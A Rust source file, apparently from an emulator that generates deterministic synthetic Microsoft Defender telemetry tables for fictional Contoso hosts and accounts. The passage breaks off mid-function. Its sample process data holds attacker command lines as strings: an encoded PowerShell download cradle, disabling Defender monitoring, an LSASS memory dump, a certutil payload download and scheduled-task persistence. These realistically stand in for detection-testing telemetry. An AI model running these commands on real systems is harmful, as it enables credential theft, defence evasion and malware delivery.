//! The emulator's synthetic data: several real Defender tables (real column names and types),
//! whose rows are a pure function of time, so any window returns exactly the rows inside it.
//!
//! Event `k` of a table happens at tick `k * period + jitter(k)`, where
//! `period = 36_000_000_000 / events_per_hour` and `0 <= jitter(k) < period` comes from a hash
//! of `(table, k)`. Events are therefore strictly increasing in time, one per period, and any
//! window `[start, end)` is found by walking `k` from `start / period` until the first event at
//! or after `end`. Every value of a row is drawn from a hash of `(table, k)` too, so the same
//! window always yields the same rows, and nothing outside the window is ever generated.
//!
//! Each emulated tenant has a seed ([`tenant_seed`]; 0 for the default tenant): it is mixed
//! into every table's seed, picks the tenant's own devices and accounts (`world.rs`) and scales
//! its volume ([`tenant_events_per_hour`]), so tenants can be told apart. Seed 0 is the
//! original data, unchanged.

use std::sync::OnceLock;

use serde_json::json;

mod generic;
mod world;

use world::{World, world};

/// A cell value with its type, serialised by the server the way the service does.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    /// JSON null.
    Null,
    /// `String`, `Guid`, `TimeSpan` (`d.hh:mm:ss.fffffff`), `Decimal` as text.
    Str(String),
    /// `DateTime` in 100 ns ticks since the Unix epoch.
    Time(i64),
    /// `Int64` / `Int32`.
    Int(i64),
    /// `Double`.
    Real(f64),
    /// `Boolean`.
    Bool(bool),
    /// `Dynamic`: nested JSON.
    Dyn(serde_json::Value),
}

/// A table's definition.
#[derive(Debug, Clone)]
pub struct TableDef {
    /// Table name, e.g. `DeviceProcessEvents`.
    pub name: &'static str,
    /// `(column, service type)`, e.g. `("ProcessId", "Int64")`.
    pub columns: Vec<(&'static str, &'static str)>,
}

/// Ticks (100 ns) per second.
pub const TICKS_PER_SECOND: i64 = 10_000_000;
/// Ticks per hour: the numerator of the event period.
pub const TICKS_PER_HOUR: i64 = 3600 * TICKS_PER_SECOND;
/// The last tick generated: 9999-12-31T23:59:59.9999999Z (windows are clamped to
/// `[0, MAX_TICKS]`, so arithmetic never overflows).
pub const MAX_TICKS: i64 = 253_402_300_800 * TICKS_PER_SECOND;

/// The rows of a table without a `Timestamp` (an inventory), in any window.
const INVENTORY_ROWS: i64 = 40;

/// The tables the emulator serves.
pub fn tables() -> &'static [TableDef] {
    static DEFS: OnceLock<Vec<TableDef>> = OnceLock::new();
    DEFS.get_or_init(|| {
        specs()
            .iter()
            .map(|t| TableDef {
                name: t.name,
                columns: t.cols.iter().map(|c| (c.name, c.ty)).collect(),
            })
            .collect()
    })
}

/// The definition of `table` (case-sensitive, like Kusto), if the emulator serves it.
pub fn table(name: &str) -> Option<&'static TableDef> {
    tables().iter().find(|t| t.name == name)
}

/// The ids of the devices rows are drawn from (`DeviceId` of every device table).
pub fn device_ids() -> &'static [String] {
    device_ids_of(0)
}

/// The ids of the devices of the tenant seeded `tenant`.
pub fn device_ids_of(tenant: u64) -> &'static [String] {
    &world(tenant).device_ids
}

/// `(DeviceName, DeviceId, IPv4 address)` of each device of the tenant seeded `tenant`: what
/// the built-in functions `AssignedIPAddresses()` and `DeviceFromIP()` look up.
pub fn device_addresses_of(tenant: u64) -> Vec<(&'static str, &'static str, &'static str)> {
    let w = world(tenant);
    w.devices.iter().zip(&w.device_ids).map(|(d, id)| (d.name, id.as_str(), d.ip)).collect()
}

/// The data seed of the emulated tenant `tenant_id` (never 0, which is the default tenant's).
pub fn tenant_seed(tenant_id: &str) -> u64 {
    mix(str_seed(tenant_id)).max(1)
}

/// The events per hour of the tenant seeded `tenant` at the configured `events_per_hour`:
/// the same for the default tenant (0), else scaled by a factor from 0.5 to 2 drawn from
/// the seed (at least 1 when the configured density is not 0).
pub fn tenant_events_per_hour(events_per_hour: u32, tenant: u64) -> u32 {
    if tenant == 0 || events_per_hour == 0 {
        return events_per_hour;
    }
    let scaled = u64::from(events_per_hour) * (50 + mix(tenant ^ 0x766f_6c75) % 151) / 100;
    u32::try_from(scaled).unwrap_or(u32::MAX).max(1)
}

/// The event period in ticks at `events_per_hour` (`None` when the density is 0).
pub fn period(events_per_hour: u32) -> Option<i64> {
    (events_per_hour > 0).then(|| (TICKS_PER_HOUR / i64::from(events_per_hour)).max(1))
}

/// The timestamp (ticks) of event `k` of `table` at `period`.
pub fn event_time(table: &str, k: i64, period: i64) -> i64 {
    k * period + jitter(table_seed(table), k, period)
}

/// The rows of `table` whose `Timestamp` lies in `[start, end)` (ticks), in time order, at
/// `events_per_hour`. `None` for an unknown table.
pub fn rows(
    table: &str,
    start: i64,
    end: i64,
    events_per_hour: u32,
) -> Option<Box<dyn Iterator<Item = Vec<Cell>> + Send>> {
    tenant_rows(table, start, end, events_per_hour, 0)
}

/// [`rows`] of the tenant seeded `tenant`: its own devices, accounts and values, at its own
/// volume ([`tenant_events_per_hour`] of `events_per_hour`).
pub fn tenant_rows(
    table: &str,
    start: i64,
    end: i64,
    events_per_hour: u32,
    tenant: u64,
) -> Option<Box<dyn Iterator<Item = Vec<Cell>> + Send>> {
    let spec = specs().iter().find(|t| t.name == table)?;
    let w = world(tenant);
    if !spec.cols.iter().any(|c| c.name == "Timestamp") {
        // An inventory or knowledge-base table (DeviceTvm…): a fixed set of rows, as a
        // snapshot taken at the window's end is (its dates are recent).
        let seed = table_seed(spec.name) ^ tenant;
        let at = end.clamp(0, MAX_TICKS);
        let n = if tenant == 0 { INVENTORY_ROWS } else { 20 + (tenant % 41) as i64 };
        return Some(Box::new((0..n).map(move |k| {
            let r = R::new(w, seed, k, at);
            spec.cols.iter().map(|c| (c.f)(&r)).collect()
        })));
    }
    let start = start.clamp(0, MAX_TICKS);
    let end = end.clamp(0, MAX_TICKS);
    let Some(period) = period(tenant_events_per_hour(events_per_hour, tenant)) else {
        return Some(Box::new(std::iter::empty()));
    };
    Some(Box::new(RowIter {
        spec,
        w,
        seed: table_seed(spec.name) ^ tenant,
        k: start / period,
        start,
        end,
        period,
    }))
}

/// Walks event indices from the window's first period to the first event at or after `end`.
struct RowIter {
    spec: &'static TableSpec,
    w: &'static World,
    seed: u64,
    k: i64,
    start: i64,
    end: i64,
    period: i64,
}

impl Iterator for RowIter {
    type Item = Vec<Cell>;

    fn next(&mut self) -> Option<Vec<Cell>> {
        loop {
            if self.k.saturating_mul(self.period) >= self.end {
                return None;
            }
            let k = self.k;
            let ts = k * self.period + jitter(self.seed, k, self.period);
            if ts >= self.end {
                // Timestamps increase with k, so nothing later can be inside.
                self.k = i64::MAX / self.period;
                return None;
            }
            self.k += 1;
            if ts < self.start {
                continue;
            }
            let r = R::new(self.w, self.seed, k, ts);
            return Some(self.spec.cols.iter().map(|c| (c.f)(&r)).collect());
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Hashing

/// splitmix64's finaliser: a cheap, well-mixed 64-bit hash step.
fn mix(mut z: u64) -> u64 {
    z = z.wrapping_add(0x9E37_79B9_7F4A_7C15);
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

/// FNV-1a of the table name.
fn table_seed(name: &str) -> u64 {
    name.bytes()
        .fold(0xcbf2_9ce4_8422_2325, |h, b| (h ^ u64::from(b)).wrapping_mul(0x0100_0000_01b3))
}

/// The offset of event `k` inside its period. Every 10th event lands on a whole millisecond
/// and every 50th on a whole second (when the period is long enough), so timestamps show
/// 0 to 7 fractional digits.
fn jitter(seed: u64, k: i64, period: i64) -> i64 {
    let j = (mix(seed ^ mix(k as u64)) % period as u64) as i64;
    let round = |unit: i64| if period >= unit { j - j % unit } else { j };
    if k % 50 == 0 {
        round(TICKS_PER_SECOND)
    } else if k % 10 == 0 {
        round(10_000)
    } else {
        j
    }
}

// ---------------------------------------------------------------------------------------------
// Entities

#[derive(Clone, Copy)]
struct Device {
    name: &'static str,
    ip: &'static str,
    os: &'static str,
}

const DEVICES: &[Device] = &[
    Device { name: "ws-fin-0042.contoso.com", ip: "10.1.4.42", os: "Windows10" },
    Device { name: "ws-hr-0007.contoso.com", ip: "10.1.5.7", os: "Windows11" },
    Device { name: "dc01.contoso.com", ip: "10.0.0.10", os: "WindowsServer2022" },
    Device { name: "sql-prod-02.contoso.com", ip: "10.0.2.22", os: "WindowsServer2019" },
    Device { name: "laptop-zoë.contoso.com", ip: "10.1.9.130", os: "Windows11" },
    Device { name: "build-agent-17", ip: "172.16.3.17", os: "WindowsServer2022" },
    Device { name: "exch01.contoso.com", ip: "10.0.1.15", os: "WindowsServer2019" },
    Device { name: "kiosk-lobby", ip: "192.168.50.23", os: "Windows10" },
];

#[derive(Clone, Copy)]
struct Account {
    name: &'static str,
    domain: &'static str,
    upn: Option<&'static str>,
    display: &'static str,
    rid: u32,
}

const ACCOUNTS: &[Account] = &[
    Account {
        name: "jsmith",
        domain: "CONTOSO",
        upn: Some("jsmith@contoso.com"),
        display: "John Smith",
        rid: 1104,
    },
    Account {
        name: "zoë.müller",
        domain: "CONTOSO",
        upn: Some("zoe.mueller@contoso.com"),
        display: "Zoë Müller",
        rid: 1187,
    },
    Account {
        name: "渡辺",
        domain: "CONTOSO",
        upn: Some("watanabe@contoso.com"),
        display: "渡辺 健",
        rid: 1203,
    },
    Account { name: "system", domain: "NT AUTHORITY", upn: None, display: "SYSTEM", rid: 18 },
    Account {
        name: "svc_backup",
        domain: "CONTOSO",
        upn: None,
        display: "Backup Service",
        rid: 2001,
    },
    Account {
        name: "administrator",
        domain: "CONTOSO",
        upn: Some("admin@contoso.com"),
        display: "Administrator",
        rid: 500,
    },
    Account {
        name: "o'brien",
        domain: "CONTOSO",
        upn: Some("obrien@contoso.com"),
        display: "Siobhán O'Brien",
        rid: 1311,
    },
    Account {
        name: "network service",
        domain: "NT AUTHORITY",
        upn: None,
        display: "NETWORK SERVICE",
        rid: 20,
    },
];

struct Proc {
    file: &'static str,
    dir: &'static str,
    company: &'static str,
    product: &'static str,
    version: &'static str,
    description: &'static str,
    size: i64,
    cmds: &'static [&'static str],
}

const MS: &str = "Microsoft Corporation";
const WINOS: &str = "Microsoft® Windows® Operating System";

const PROCS: &[Proc] = &[
    Proc {
        file: "powershell.exe",
        dir: r"C:\Windows\System32\WindowsPowerShell\v1.0",
        company: MS,
        product: WINOS,
        version: "10.0.19041.3996",
        description: "Windows PowerShell",
        size: 452_608,
        cmds: &[
            r"powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\Scripts\inventory.ps1",
            "powershell.exe -nop -w hidden -enc VwByAGkAdABlAC0ASABvAHMAdAAgACIAaABlAGwAbABvACAAZgByAG8AbQAgAGgAdQBuAHQAIgA=",
            "\"powershell.exe\" -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgA1AC8AYQAuAHAAcwAxACcAKQA=",
            "powershell.exe -Command \"Get-Process | Where-Object { $_.CPU -gt 100 }\"",
            "powershell.exe -Command Set-MpPreference -DisableRealtimeMonitoring $true",
            r"powershell.exe Add-MpPreference -ExclusionPath C:\Users\Public\Downloads",
        ],
    },
    Proc {
        file: "cmd.exe",
        dir: r"C:\Windows\System32",
        company: MS,
        product: WINOS,
        version: "10.0.19041.746",
        description: "Windows Command Processor",
        size: 289_792,
        cmds: &[
            r#"cmd.exe /c "echo \"quoted\" & dir C:\Users\Public""#,
            r"cmd.exe /c whoami /all",
            "cmd.exe /c net group \"Domain Admins\" /domain",
            "cmd.exe /c type C:\\temp\\notes.txt\t& exit",
        ],
    },
    Proc {
        file: "rundll32.exe",
        dir: r"C:\Windows\System32",
        company: MS,
        product: WINOS,
        version: "10.0.19041.1",
        description: "Windows host process (Rundll32)",
        size: 71_680,
        cmds: &[
            r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\temp\lsass.dmp full",
            r"rundll32.exe shell32.dll,Control_RunDLL C:\Users\Public\evil.cpl",
            r"rundll32.exe C:\Windows\system32\shell32.dll,#44",
        ],
    },
    Proc {
        file: "svchost.exe",
        dir: r"C:\Windows\System32",
        company: MS,
        product: WINOS,
        version: "10.0.19041.1806",
        description: "Host Process for Windows Services",
        size: 55_320,
        cmds: &[
            r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
            r"C:\Windows\System32\svchost.exe -k LocalServiceNetworkRestricted -p",
        ],
    },
    Proc {
        file: "chrome.exe",
        dir: r"C:\Program Files\Google\Chrome\Application",
        company: "Google LLC",
        product: "Google Chrome",
        version: "131.0.6778.86",
        description: "Google Chrome",
        size: 3_095_456,
        cmds: &[
            r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US"#,
            r#""C:\Program Files\Google\Chrome\Application\chrome.exe" https://contoso.sharepoint.com/"#,
        ],
    },
    Proc {
        file: "WINWORD.EXE",
        dir: r"C:\Program Files\Microsoft Office\root\Office16",
        company: MS,
        product: "Microsoft Office",
        version: "16.0.17928.20156",
        description: "Microsoft Word",
        size: 1_937_800,
        cmds: &[
            r#""C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\jsmith\Downloads\Invoice 4521.docm""#,
        ],
    },
    Proc {
        file: "certutil.exe",
        dir: r"C:\Windows\System32",
        company: MS,
        product: WINOS,
        version: "10.0.19041.2913",
        description: "CertUtil.exe",
        size: 1_357_824,
        cmds: &[
            r"certutil.exe -urlcache -split -f http://198.51.100.7/payload.bin C:\Users\Public\p.bin",
        ],
    },
    Proc {
        file: "schtasks.exe",
        dir: r"C:\Windows\System32",
        company: MS,
        product: WINOS,
        version: "10.0.19041.1503",
        description: "Task Scheduler Configuration Tool",
        size: 235_008,
        cmds: &[
            r#"schtasks.exe /create /tn "Updater" /tr "C:\Users\Public\upd.exe" /sc minute /mo 15"#,
            r"schtasks.exe /query /fo LIST /v",
        ],
    },
    Proc {
        file: "net.exe",
        dir: r"C:\Windows\System32",
        company: MS,
        product: WINOS,
        version: "10.0.19041.1",
        description: "Net Command",
        size: 56_832,
        cmds: &[r"net.exe localgroup administrators", r"net.exe user /domain"],
    },
    Proc {
        file: "Teams.exe",
        dir: r"C:\Users\zoë.müller\AppData\Local\Microsoft\Teams\current",
        company: MS,
        product: "Microsoft Teams",
        version: "1.7.00.13456",
        description: "Microsoft Teams",
        size: 134_263_232,
        cmds: &[
            r#""C:\Users\zoë.müller\AppData\Local\Microsoft\Teams\current\Teams.exe" --processStart "Teams.exe""#,
        ],
    },
];

/// Initiating processes (indices into `PROCS` are not shared: these are the usual parents).
const PARENTS: &[Proc] = &[
    Proc {
        file: "explorer.exe",
        dir: r"C:\Windows",
        company: MS,
        product: WINOS,
        version: "10.0.19041.4291",
        description: "Windows Explorer",
        size: 5_183_280,
        cmds: &[r"C:\Windows\Explorer.EXE"],
    },
    Proc {
        file: "services.exe",
        dir: r"C:\Windows\System32",
        company: MS,
        product: WINOS,
        version: "10.0.19041.3636",
        description: "Services and Controller app",
        size: 721_456,
        cmds: &[r"C:\Windows\system32\services.exe"],
    },
    Proc {
        file: "wmiprvse.exe",
        dir: r"C:\Windows\System32\wbem",
        company: MS,
        product: WINOS,
        version: "10.0.19041.1",
        description: "WMI Provider Host",
        size: 515_584,
        cmds: &[r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding"],
    },
    Proc {
        file: "userinit.exe",
        dir: r"C:\Windows\System32",
        company: MS,
        product: WINOS,
        version: "10.0.19041.1",
        description: "Userinit Logon Application",
        size: 33_280,
        cmds: &[r"C:\Windows\system32\userinit.exe"],
    },
];

const REMOTE_IPS: &[&str] = &[
    "52.96.165.18",
    "13.107.42.14",
    "198.51.100.7",
    "203.0.113.250",
    "10.0.0.10",
    "fe80::1c2b:3a4d:5e6f:7a8b",
    "2001:db8::dead:beef",
    "185.199.108.133",
];
const REMOTE_URLS: &[&str] = &[
    "outlook.office365.com",
    "login.microsoftonline.com",
    "",
    "raw.githubusercontent.com",
    "update.example-cdn.net",
    "",
];

// ---------------------------------------------------------------------------------------------
// Row context: the entities of one event, drawn once, then read by each column's generator.

struct R {
    w: &'static World,
    k: i64,
    ts: i64,
    s: u64,
    dev: usize,
    dev_id: &'static str,
    acct: &'static Account,
    ids: &'static Ids,
    iacct: &'static Account,
    iids: &'static Ids,
    p: &'static Proc,
    hp: &'static Derived,
    ip: &'static Proc,
    hip: &'static Derived,
    pp: &'static Proc,
}

impl R {
    fn new(w: &'static World, seed: u64, k: i64, ts: i64) -> R {
        let s = mix(seed ^ mix(k as u64) ^ 0x5bd1_e995);
        let pick = |salt: u64, n: usize| (mix(s ^ salt) % n as u64) as usize;
        let cache = cache();
        let (dev, acct, iacct, p) = (
            pick(1, w.devices.len()),
            pick(2, w.accounts.len()),
            pick(3, w.accounts.len()),
            pick(4, PROCS.len()),
        );
        let (ip, hip) = if pick(5, 3) == 0 {
            let i = pick(6, 3);
            (&PROCS[i], &cache.procs[i])
        } else {
            let i = pick(6, PARENTS.len());
            (&PARENTS[i], &cache.parents[i])
        };
        R {
            w,
            k,
            ts,
            s,
            dev,
            dev_id: &w.device_ids[dev],
            acct: &w.accounts[acct],
            ids: &w.ids[acct],
            iacct: &w.accounts[iacct],
            iids: &w.ids[iacct],
            p: &PROCS[p],
            hp: &cache.procs[p],
            ip,
            hip,
            pp: &PARENTS[pick(7, PARENTS.len())],
        }
    }

    /// A per-row, per-purpose hash.
    fn h(&self, salt: u64) -> u64 {
        mix(self.s ^ salt.wrapping_mul(0x9E37_79B9_7F4A_7C15))
    }

    /// One of `items`, drawn with `salt`.
    fn pick<T: Copy>(&self, salt: u64, items: &[T]) -> T {
        items[(self.h(salt) % items.len() as u64) as usize]
    }

    fn device(&self) -> &'static Device {
        &self.w.devices[self.dev]
    }

    /// The tenant's device `n` places after this row's.
    fn device_after(&self, n: usize) -> &'static Device {
        &self.w.devices[(self.dev + n) % self.w.devices.len()]
    }
}

fn s(v: &str) -> Cell {
    Cell::Str(v.to_owned())
}

/// `n` lowercase hex digits drawn from `seed`.
fn hex(seed: u64, n: usize) -> String {
    const DIGITS: &[u8; 16] = b"0123456789abcdef";
    let mut out = String::with_capacity(n);
    let mut h = seed;
    for i in 0..n {
        if i % 16 == 0 {
            h = mix(h ^ i as u64);
        }
        out.push(DIGITS[(h >> ((i % 16) * 4)) as usize & 15] as char);
    }
    out
}

/// A GUID-shaped string drawn from `seed`.
fn guid(seed: u64) -> String {
    let h = hex(seed, 32);
    format!("{}-{}-{}-{}-{}", &h[0..8], &h[8..12], &h[12..16], &h[16..20], &h[20..32])
}

fn str_seed(v: &str) -> u64 {
    table_seed(v)
}

fn sid(a: &Account, domain_sid: &str) -> String {
    if a.domain == "NT AUTHORITY" {
        format!("S-1-5-{}", a.rid)
    } else {
        format!("{domain_sid}-{}", a.rid)
    }
}

fn upn(a: &Account) -> Cell {
    a.upn.map_or(Cell::Null, s)
}

fn object_id(ids: &Ids) -> Cell {
    ids.object_id.clone().map_or(Cell::Null, Cell::Str)
}

/// Values derived from an entity once, then cloned into rows.
struct Derived {
    sha1: String,
    sha256: String,
    md5: String,
    path: String,
}

struct Ids {
    sid: String,
    object_id: Option<String>,
}

struct Cache {
    procs: Vec<Derived>,
    parents: Vec<Derived>,
}

fn cache() -> &'static Cache {
    static CACHE: OnceLock<Cache> = OnceLock::new();
    CACHE.get_or_init(|| {
        let derive = |p: &Proc| Derived {
            sha1: hex(str_seed(p.file) ^ 1, 40),
            sha256: hex(str_seed(p.file) ^ 2, 64),
            md5: hex(str_seed(p.file) ^ 3, 32),
            path: path(p),
        };
        Cache {
            procs: PROCS.iter().map(derive).collect(),
            parents: PARENTS.iter().map(derive).collect(),
        }
    })
}

fn path(p: &Proc) -> String {
    let mut out = String::with_capacity(p.dir.len() + p.file.len() + 1);
    out.push_str(p.dir);
    out.push('\\');
    out.push_str(p.file);
    out
}

// ---------------------------------------------------------------------------------------------
// Table specifications

type Gen = fn(&R) -> Cell;

struct Col {
    name: &'static str,
    ty: &'static str,
    f: Box<dyn Fn(&R) -> Cell + Send + Sync>,
}

struct TableSpec {
    name: &'static str,
    cols: Vec<Col>,
}

const STR: &str = "String";
const TIME: &str = "DateTime";
const LONG: &str = "Int64";
const INT: &str = "Int32";
const BOOL: &str = "Boolean";
const DYN: &str = "Dynamic";

fn c(name: &'static str, ty: &'static str, f: Gen) -> Col {
    Col { name, ty, f: Box::new(f) }
}

fn specs() -> &'static [TableSpec] {
    static SPECS: OnceLock<Vec<TableSpec>> = OnceLock::new();
    SPECS.get_or_init(|| {
        let mut specs = hand_written();
        let known: Vec<&str> = specs.iter().map(|t| t.name).collect();
        specs.extend(generic::specs(&known));
        specs
    })
}

/// The tables with generators of their own.
fn hand_written() -> Vec<TableSpec> {
    vec![
        device_process_events(),
        device_network_events(),
        device_logon_events(),
        alert_info(),
        email_events(),
        identity_logon_events(),
    ]
}

fn head(cols: &mut Vec<Col>, actions: Gen) {
    cols.push(c("Timestamp", TIME, |r| Cell::Time(r.ts)));
    cols.push(c("DeviceId", STR, |r| s(r.dev_id)));
    cols.push(c("DeviceName", STR, |r| s(r.device().name)));
    cols.push(c("ActionType", STR, actions));
}

/// `InitiatingProcessAccount{Domain,Name,Sid,Upn,ObjectId}`.
fn init_account(cols: &mut Vec<Col>) {
    cols.push(c("InitiatingProcessAccountDomain", STR, |r| s(r.iacct.domain)));
    cols.push(c("InitiatingProcessAccountName", STR, |r| s(r.iacct.name)));
    cols.push(c("InitiatingProcessAccountSid", STR, |r| Cell::Str(r.iids.sid.clone())));
    cols.push(c("InitiatingProcessAccountUpn", STR, |r| upn(r.iacct)));
    cols.push(c("InitiatingProcessAccountObjectId", STR, |r| object_id(r.iids)));
}

fn integrity(r: &R, salt: u64) -> Cell {
    s(r.pick(salt, &["Medium", "High", "System", "Low"]))
}

fn elevation(r: &R, salt: u64) -> Cell {
    s(r.pick(
        salt,
        &["TokenElevationTypeDefault", "TokenElevationTypeFull", "TokenElevationTypeLimited"],
    ))
}

/// `InitiatingProcess{SHA1,SHA256,MD5,FileName,FileSize,VersionInfo*}`.
fn init_image(cols: &mut Vec<Col>) {
    cols.push(c("InitiatingProcessSHA1", STR, |r| Cell::Str(r.hip.sha1.clone())));
    cols.push(c("InitiatingProcessSHA256", STR, |r| {
        if r.h(40).is_multiple_of(4) { Cell::Null } else { Cell::Str(r.hip.sha256.clone()) }
    }));
    cols.push(c("InitiatingProcessMD5", STR, |r| Cell::Str(r.hip.md5.clone())));
    cols.push(c("InitiatingProcessFileName", STR, |r| s(r.ip.file)));
    cols.push(c("InitiatingProcessFileSize", LONG, |r| Cell::Int(r.ip.size)));
    init_version(cols);
}

fn init_version(cols: &mut Vec<Col>) {
    cols.push(c("InitiatingProcessVersionInfoCompanyName", STR, |r| s(r.ip.company)));
    cols.push(c("InitiatingProcessVersionInfoProductName", STR, |r| s(r.ip.product)));
    cols.push(c("InitiatingProcessVersionInfoProductVersion", STR, |r| s(r.ip.version)));
    cols.push(c("InitiatingProcessVersionInfoInternalFileName", STR, |r| s(r.ip.file)));
    cols.push(c("InitiatingProcessVersionInfoOriginalFileName", STR, |r| s(r.ip.file)));
    cols.push(c("InitiatingProcessVersionInfoFileDescription", STR, |r| s(r.ip.description)));
}

fn init_id(r: &R) -> Cell {
    Cell::Int((r.h(41) % 30_000) as i64 + 4)
}
fn init_cmd(r: &R) -> Cell {
    s(r.pick(42, r.ip.cmds))
}
fn init_created(r: &R) -> Cell {
    Cell::Time(r.ts - (r.h(43) % (3 * 24 * TICKS_PER_HOUR as u64)) as i64)
}
fn init_folder(r: &R) -> Cell {
    Cell::Str(r.hip.path.clone())
}
fn parent_id(r: &R) -> Cell {
    Cell::Int((r.h(44) % 30_000) as i64 + 4)
}
fn parent_file(r: &R) -> Cell {
    s(r.pp.file)
}
fn parent_created(r: &R) -> Cell {
    if r.h(45).is_multiple_of(7) {
        Cell::Null
    } else {
        Cell::Time(
            r.ts - (r.h(45) % (30 * 24 * TICKS_PER_HOUR as u64)) as i64 - TICKS_PER_HOUR * 72,
        )
    }
}

fn report_id(r: &R) -> Cell {
    Cell::Int(r.k.rem_euclid(1 << 40) * 7 + (r.h(46) % 7) as i64)
}

fn additional_fields_str(r: &R) -> Cell {
    match r.h(47) % 6 {
        0 => s(r#"{"ProcessStartKey":"1234567890123","IsCommandLineTruncated":false}"#),
        1 => s(""),
        _ => Cell::Null,
    }
}

/// Session columns shared by the Device* tables.
fn session_tail(cols: &mut Vec<Col>) {
    cols.push(c("InitiatingProcessSessionId", LONG, |r| Cell::Int((r.h(48) % 4) as i64)));
    cols.push(c("IsInitiatingProcessRemoteSession", BOOL, |r| {
        Cell::Bool(r.h(49).is_multiple_of(5))
    }));
    cols.push(c("InitiatingProcessRemoteSessionDeviceName", STR, |r| {
        if r.h(49).is_multiple_of(5) { s("jumpbox-01") } else { Cell::Null }
    }));
    cols.push(c("InitiatingProcessRemoteSessionIP", STR, |r| {
        if r.h(49).is_multiple_of(5) { s("10.0.9.9") } else { Cell::Null }
    }));
}

fn device_process_events() -> TableSpec {
    let mut v = Vec::with_capacity(60);
    head(&mut v, |_| s("ProcessCreated"));
    v.push(c("FileName", STR, |r| s(r.p.file)));
    v.push(c("FolderPath", STR, |r| Cell::Str(r.hp.path.clone())));
    v.push(c("SHA1", STR, |r| Cell::Str(r.hp.sha1.clone())));
    v.push(c("SHA256", STR, |r| {
        if r.h(10).is_multiple_of(3) { Cell::Null } else { Cell::Str(r.hp.sha256.clone()) }
    }));
    v.push(c("MD5", STR, |r| Cell::Str(r.hp.md5.clone())));
    v.push(c("FileSize", LONG, |r| Cell::Int(r.p.size)));
    v.push(c("ProcessVersionInfoCompanyName", STR, |r| s(r.p.company)));
    v.push(c("ProcessVersionInfoProductName", STR, |r| s(r.p.product)));
    v.push(c("ProcessVersionInfoProductVersion", STR, |r| s(r.p.version)));
    v.push(c("ProcessVersionInfoInternalFileName", STR, |r| s(r.p.file)));
    v.push(c("ProcessVersionInfoOriginalFileName", STR, |r| s(r.p.file)));
    v.push(c("ProcessVersionInfoFileDescription", STR, |r| s(r.p.description)));
    v.push(c("ProcessId", LONG, |r| Cell::Int((r.h(11) % 60_000) as i64 + 4)));
    v.push(c("ProcessCommandLine", STR, |r| s(r.pick(12, r.p.cmds))));
    v.push(c("ProcessIntegrityLevel", STR, |r| integrity(r, 13)));
    v.push(c("ProcessTokenElevation", STR, |r| elevation(r, 14)));
    v.push(c("ProcessCreationTime", TIME, |r| Cell::Time(r.ts - (r.h(15) % 20_000) as i64)));
    v.push(c("AccountDomain", STR, |r| s(r.acct.domain)));
    v.push(c("AccountName", STR, |r| s(r.acct.name)));
    v.push(c("AccountSid", STR, |r| Cell::Str(r.ids.sid.clone())));
    v.push(c("AccountUpn", STR, |r| upn(r.acct)));
    v.push(c("AccountObjectId", STR, |r| object_id(r.ids)));
    v.push(c("LogonId", LONG, |r| Cell::Int((r.h(16) % 0xFF_FFFF) as i64)));
    init_account(&mut v);
    v.push(c("InitiatingProcessLogonId", LONG, |r| Cell::Int((r.h(17) % 0xFF_FFFF) as i64)));
    v.push(c("InitiatingProcessIntegrityLevel", STR, |r| integrity(r, 18)));
    v.push(c("InitiatingProcessTokenElevation", STR, |r| elevation(r, 19)));
    init_image(&mut v);
    v.push(c("InitiatingProcessId", LONG, init_id));
    v.push(c("InitiatingProcessCommandLine", STR, init_cmd));
    v.push(c("InitiatingProcessCreationTime", TIME, init_created));
    v.push(c("InitiatingProcessFolderPath", STR, init_folder));
    v.push(c("InitiatingProcessParentId", LONG, parent_id));
    v.push(c("InitiatingProcessParentFileName", STR, parent_file));
    v.push(c("InitiatingProcessParentCreationTime", TIME, parent_created));
    v.push(c("InitiatingProcessSignerType", STR, |r| {
        s(r.pick(20, &["OsVendor", "Microsoft", "ThirdParty", "Unknown"]))
    }));
    v.push(c("InitiatingProcessSignatureStatus", STR, |r| {
        s(r.pick(21, &["Valid", "Valid", "Unsigned", "Invalid"]))
    }));
    v.push(c("ReportId", LONG, report_id));
    v.push(c("AppGuardContainerId", STR, |_| s("")));
    v.push(c("AdditionalFields", STR, additional_fields_str));
    TableSpec { name: "DeviceProcessEvents", cols: v }
}

/// `InitiatingProcess{Id,CommandLine,CreationTime,FolderPath,ParentFileName,ParentId,ParentCreationTime}`
/// in DeviceNetworkEvents' order.
fn device_network_events() -> TableSpec {
    let mut v = Vec::with_capacity(48);
    head(&mut v, |r| {
        s(r.pick(
            1,
            &[
                "ConnectionSuccess",
                "ConnectionSuccess",
                "ConnectionSuccess",
                "ConnectionFailed",
                "ConnectionRequest",
                "InboundConnectionAccepted",
                "ListeningConnectionCreated",
            ],
        ))
    });
    v.push(c("RemoteIP", STR, |r| s(r.pick(22, REMOTE_IPS))));
    v.push(c("RemotePort", INT, |r| {
        if r.h(23).is_multiple_of(10) {
            Cell::Null
        } else {
            Cell::Int(i64::from(r.pick(23, &[443u16, 80, 445, 3389, 53, 135, 8443])))
        }
    }));
    v.push(c("RemoteUrl", STR, |r| s(r.pick(24, REMOTE_URLS))));
    v.push(c("LocalIP", STR, |r| s(r.device().ip)));
    v.push(c("LocalPort", INT, |r| Cell::Int(49_152 + (r.h(25) % 16_000) as i64)));
    v.push(c("Protocol", STR, |r| s(r.pick(26, &["Tcp", "Tcp", "Udp", "TcpV6"]))));
    v.push(c("LocalIPType", STR, |_| s("Private")));
    v.push(c("RemoteIPType", STR, |r| {
        s(r.pick(27, &["Public", "Private", "Loopback", "FourToSixMapping"]))
    }));
    init_image(&mut v);
    v.push(c("InitiatingProcessId", LONG, init_id));
    v.push(c("InitiatingProcessCommandLine", STR, init_cmd));
